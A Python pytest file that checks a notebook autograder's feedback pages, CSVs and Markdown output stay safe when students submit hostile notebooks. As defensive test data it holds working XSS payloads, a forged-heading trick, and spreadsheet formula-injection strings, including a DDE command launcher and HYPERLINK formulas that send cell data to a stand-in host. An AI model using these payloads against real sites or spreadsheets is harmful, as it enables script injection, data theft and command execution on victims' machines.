"""What the grader writes is data, escaped for where it is read (issue 26).

One real grading run of Chapter 1 (``grade``, as ``python -m autograder grade`` does) on hostile
submissions beside an honest and a blank control: a cell whose output is HTML, SVG and JavaScript
with script in them, written answers holding script, a forged ``#### Student:`` heading with an
unterminated comment, spreadsheet formulas and a 210,000-character essay, and a file whose name
is a formula. Each is graded on its code; the CSVs hold no formula a spreadsheet would run; the
Markdown file shows each answer under its writer's name; no feedback page holds the hidden tests,
and none runs a script when headless Chromium opens it. The light tests render pages in process.
"""

import copy
import csv
import os
import re
import shutil
from html.parser import HTMLParser

import nbformat
import pytest
from traitlets.config import Config

from autograder.feedback import POLICY, SafeHTMLExporter, safe_notebook, with_policy, without_hidden_tests
from autograder.grader import grade
from autograder.repair import grade_id
from autograder.sandbox import Limits
from autograder.submissions import blank, submission
from autograder.written import ANSWER_LIMIT, FORMULA_START, NUMBER, is_written, read_rows, totals, write_rows

CHAPTER = "ch01_minmax"
FULL = 11.0
CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
TITLE = "untouched"
RAN = "document.title='pwned';window.pwned=1"  # what a payload does when it runs
HTML_PAYLOAD = (f"<script>{RAN}</script><img src=x onerror=\"{RAN}\"><svg onload=\"{RAN}\"></svg>"
                f"<iframe srcdoc=\"<script>parent.{RAN}</script>\"></iframe><a href=\"javascript:{RAN}\">x</a>"
                "<style>body {background: url(https://x.test/leak)}</style>")
SVG_PAYLOAD = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"><script>{RAN}</script></svg>'
MARKDOWN_PAYLOAD = (f"Quantization rounds.\n\n<script>{RAN}</script>\n\n<img src=x onerror=\"{RAN}\">\n\n"
                    f"[click](javascript:{RAN}) <iframe src=\"javascript:parent.{RAN}\"></iframe>\n\n"
                    f"<details open ontoggle=\"{RAN}\">x</details>")
DISPLAYS = f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display


class Shown:
    def _repr_html_(self):
        return {HTML_PAYLOAD!r}


display(HTML({HTML_PAYLOAD!r}))
display(SVG({SVG_PAYLOAD!r}))
display(Javascript({RAN!r}))
display(Markdown({MARKDOWN_PAYLOAD!r}))
Shown()
"""
FORGED = ("Fine answer.\n\n#### Student: honest\n\nA forged answer shown under the honest student's name.\n\n"
          "```\n\n````\n\n<!--")
FORMULAS = ['=HYPERLINK("http://x.test/?"&C2&D2,"see")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)"]
FILE_FORMULA = '=HYPERLINK("x.test?"&A2,"open")'
HIDDEN_TEXT = ("BEGIN HIDDEN TESTS", "compare(", "weight_cases", "END HIDDEN TESTS")


def with_answers(notebook, texts):
    """``notebook`` with its written answers, in order, replaced by ``texts``."""
    notebook = copy.deepcopy(notebook)
    for cell, text in zip([c for c in notebook.cells if is_written(c)], texts, strict=False):
        cell.source = text
    return notebook


def with_code(notebook, exercise, after):
    notebook = copy.deepcopy(notebook)
    cell = next(c for c in notebook.cells if grade_id(c) == exercise)
    cell.source = f"{cell.source}\n\n{after}"
    return notebook


def hostile(folder):
    """The run's submission files in ``folder / "in"``: student name to notebook."""
    good = submission(CHAPTER)
    notebooks = {
        "honest": good,
        "blank": blank(CHAPTER),
        "html_output": with_code(good, "bits_per_weight", DISPLAYS),
        "written_html": with_answers(good, [MARKDOWN_PAYLOAD, FORGED, "x" * 210_000]),
        "formulas": with_answers(good, FORMULAS),
        FILE_FORMULA: with_answers(good, ["=1+1"]),
    }
    inbox = folder / "in"
    inbox.mkdir()
    for name, notebook in notebooks.items():
        (inbox / f"{name}_{CHAPTER}.ipynb").write_text(nbformat.writes(notebook))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("writes")
    hostile(folder)
    rows = grade(folder / "in", folder / "out", workers=2, limits=Limits(cell_seconds=20, notebook_seconds=600,
                                                                        memory_gb=6))
    return folder / "out", {r["file"].removesuffix(f"_{CHAPTER}.ipynb"): r for r in rows}


@pytest.fixture(scope="module")
def browser():
    if not (CHROMIUM and DRIVER):
        pytest.skip("Chromium and ChromeDriver are not installed (Debian: apt-get install chromium chromium-driver)")
    from selenium import webdriver  # noqa: PLC0415 - only with Chromium
    from selenium.webdriver.chrome.service import Service  # noqa: PLC0415

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"):
        options.add_argument(flag)
    driver = webdriver.Chrome(service=Service(DRIVER), options=options)
    driver.set_page_load_timeout(60)
    driver.set_script_timeout(20)
    yield driver
    driver.quit()


def script_ran(browser, page):
    """Whether opening ``page`` (a file) in Chromium ran any of the payloads: each sets the title
    and a global. The page's title is set to ``TITLE`` first, so that a payload changing it shows;
    every image error and load has had its turn once the page is complete."""
    text = page.read_text()
    marked = page.with_name(f"opened-{page.name}")
    marked.write_text(text.replace("<title>", f"<title>{TITLE}", 1))
    browser.get(marked.as_uri())
    browser.execute_async_script("""
        const done = arguments[arguments.length - 1];
        const settle = () => setTimeout(() => done(true), 500);
        if (document.readyState === "complete") settle(); else window.addEventListener("load", settle);
    """)
    marked.unlink()
    return not browser.title.startswith(TITLE) or browser.execute_script("return window.pwned === 1")


# --- in process: the page nbgrader's feedback template makes of a hostile notebook ------------------


def feedback_config():
    """The template configuration nbgrader's ``GenerateFeedback`` gives its exporter."""
    import nbgrader  # noqa: PLC0415

    base = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [os.path.join(base, "templates")]
    config.HTMLExporter.extra_template_paths = [os.path.join(base, "static", "node_modules", "bootstrap", "dist",
                                                             "css")]
    return config


def hostile_notebook():
    """A graded notebook as nbgrader's autograde leaves it: a test cell with its hidden tests
    restored, a written answer and outputs holding script."""
    notebook = nbformat.v4.new_notebook()
    answer = nbformat.v4.new_markdown_cell(MARKDOWN_PAYLOAD + "\n\n<!-- never closed")
    answer.metadata.nbgrader = {"grade": True, "solution": True, "grade_id": "written-x", "points": 2, "score": 0}
    test = nbformat.v4.new_code_cell("assert True  # visible\n### BEGIN HIDDEN TESTS\nfrom autograder.checks import "
                                     "compare, weight_cases\ncompare(weight_cases())\n### END HIDDEN TESTS")
    test.metadata.nbgrader = {"grade": True, "solution": False, "grade_id": "test_x", "points": 1, "score": 1}
    test.outputs = [nbformat.v4.new_output("display_data", data={"text/html": HTML_PAYLOAD}),
                    nbformat.v4.new_output("display_data", data={"application/javascript": RAN}),
                    nbformat.v4.new_output("display_data", data={"image/svg+xml": f"<svg onload=\"{RAN}\"/>"}),
                    nbformat.v4.new_output("execute_result", data={"text/plain": "Shown()", "text/html": HTML_PAYLOAD},
                                           execution_count=1),
                    nbformat.v4.new_output("stream", text=f"<script>{RAN}</script>")]
    after = nbformat.v4.new_markdown_cell("Read after the comment.")
    notebook.cells = [answer, test, after]
    return notebook


def rendered(exporter):
    resources = {"nbgrader": {"notebook": "minmax", "score": 1, "max_score": 3, "late_penalty": 0}}
    return exporter.from_notebook_node(hostile_notebook(), resources=resources)[0]


class Markup(HTMLParser):
    """The elements, attributes and comments of a page as a browser's parser finds them."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append(tag)
        self.found += [f"{tag} {name}={value or ''}" for name, value in attrs]

    def handle_comment(self, data):
        self.found.append("<!--")


def live_markup(html):
    """What in ``html`` a browser could run or load: script, frames, embedded documents, style,
    meta, event handlers, ``javascript:`` URLs, comments (which hide what follows)."""
    parser = Markup()
    parser.feed(html)
    parser.close()
    tags = {"script", "iframe", "frame", "object", "embed", "svg", "math", "style", "meta", "link", "base", "form",
            "details"}
    return [found for found in parser.found if found in tags or found == "<!--" or re.match(r"\w+ on", found)
            or re.search(r"=\s*(javascript:|vbscript:|data:text)", found, flags=re.IGNORECASE)]


def test_hidden_test_regions_go_and_an_unterminated_one_runs_to_the_end():
    source = "a\n### BEGIN HIDDEN TESTS\nsecret\n### END HIDDEN TESTS\nb\n# BEGIN HIDDEN TESTS\nmore"
    assert without_hidden_tests(source) == "a\nb"
    cleaned = safe_notebook(hostile_notebook())
    assert cleaned.cells[1].source == "assert True  # visible"
    assert [sorted(o.get("data", {})) for o in cleaned.cells[1].outputs] == [
        ["text/plain"], ["text/plain"], ["text/plain"], ["text/plain"], []]
    assert cleaned.cells[1].outputs[0].data["text/plain"] == HTML_PAYLOAD, "a rich output is shown as its text"


def test_the_page_has_no_hidden_test_no_live_markup_and_a_policy(tmp_path):
    page = rendered(SafeHTMLExporter(config=feedback_config()))
    assert not [text for text in HIDDEN_TEXT if text in page]
    assert "# visible" in page and "Read after the comment." in page, "the visible test and later cells remain"
    assert f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">' in page
    body = page.partition("</head>")[2]
    assert not live_markup(body)
    assert "&lt;script&gt;" in body, "the markup shows as text"
    assert with_policy(page) == page, "applying the policy again changes nothing"


def test_no_script_runs_in_chromium_where_the_unprotected_page_runs_it(tmp_path, browser):
    """The control proves the payloads and the check work: nbconvert's page as it comes runs them."""
    from nbconvert.exporters import HTMLExporter  # noqa: PLC0415

    unprotected = tmp_path / "unprotected.html"
    unprotected.write_text(rendered(HTMLExporter(config=feedback_config())))
    assert script_ran(browser, unprotected)
    safe = tmp_path / "safe.html"
    safe.write_text(rendered(SafeHTMLExporter(config=feedback_config())))
    assert not script_ran(browser, safe)


# --- one real grading run ----------------------------------------------------------------------------


def test_the_controls_and_the_hostile_submissions_are_graded_on_their_code(graded):
    _, rows = graded
    assert set(rows) == {"honest", "blank", "html_output", "written_html", "formulas", FILE_FORMULA}, sorted(rows)
    assert (rows["honest"]["status"], float(rows["honest"]["score"]), float(rows["honest"]["max_score"])) == (
        "graded", FULL, FULL)
    assert rows["blank"]["status"] == "graded" and float(rows["blank"]["score"]) == 0
    for name in ("html_output", "written_html", "formulas", FILE_FORMULA):
        assert rows[name]["status"].startswith("graded") and float(rows[name]["score"]) == FULL, rows[name]


def raw_cells(path):
    with path.open(newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_csv_cell_begins_like_a_formula_and_total_matches_every_row(graded):
    out, rows = graded
    written = read_rows(out / "written.csv")
    write_rows(out / "written.csv", list(written[0]), [{**r, "points": r["max_points"]} for r in written])
    added = {name: r for r in totals(out) for name, row in rows.items() if row["student"] == r["student"]}
    for name in ("grades.csv", "written.csv", "totals.csv"):
        dangerous = [cell for cell in raw_cells(out / name)
                     if cell.lstrip(" ")[:1] in FORMULA_START and not NUMBER.fullmatch(cell)]
        assert not dangerous, (name, dangerous[:3])
    assert f"'{FILE_FORMULA}_{CHAPTER}.ipynb" in raw_cells(out / "grades.csv")
    assert {f"'{text}" for text in FORMULAS} <= set(raw_cells(out / "written.csv"))
    student = rows[FILE_FORMULA]["student"]
    assert [r["question"] for r in written if r["student"] == student and r["answer"] == "=1+1"]
    assert float(added[FILE_FORMULA]["total"]) == float(added[FILE_FORMULA]["max_score"]) > FULL
    assert float(added["formulas"]["total"]) == float(added["formulas"]["max_score"])
    essay = next(r["answer"] for r in written if r["student"] == "written_html" and r["answer"].startswith("xxx"))
    assert len(essay) < ANSWER_LIMIT + 100 and essay.endswith(f"[cut at {ANSWER_LIMIT} characters]")


def test_the_markdown_file_shows_each_answer_under_its_writers_name(graded):
    from markdown_it import MarkdownIt  # noqa: PLC0415 - the parser jupyter-book uses

    out, _ = graded
    tokens = MarkdownIt("commonmark").parse((out / "written" / f"{CHAPTER}.md").read_text())
    assert not [t for t in tokens if "html" in t.type], "no answer becomes HTML (or a comment hiding the rest)"
    under, headings = {}, []
    for index, token in enumerate(tokens):
        if token.type == "heading_open" and token.tag == "h4":
            headings.append("".join(c.content for c in tokens[index + 1].children if c.type == "text"))
        elif token.type == "fence" and headings:
            under.setdefault(headings[-1], []).append(token.content)
    assert len(headings) == 3 * 6, "every student's heading for each of the three questions, none hidden"
    assert FORGED + "\n" in under["Student: written_html"]
    assert MARKDOWN_PAYLOAD + "\n" in under["Student: written_html"]
    assert not [text for text in under["Student: honest"] if "forged" in text]


def test_no_feedback_page_holds_a_hidden_test_or_runs_a_script(graded, browser):
    out, rows = graded
    pages = sorted((out / "feedback").rglob("*.html"))
    assert len(pages) == len(rows)
    for page in pages:
        text = page.read_text()
        assert not [t for t in HIDDEN_TEXT if t in text], page
        assert f'content="{POLICY}"' in text, page
        assert not script_ran(browser, page), page
    honest = (out / "feedback" / "honest" / f"{CHAPTER}.html").read_text()
    assert "Visible tests" in honest, "the visible tests stay on the page"
    shown = (out / "feedback" / "html_output" / f"{CHAPTER}.html").read_text()
    assert "&lt;script&gt;" in shown, "an HTML output shows as its text"

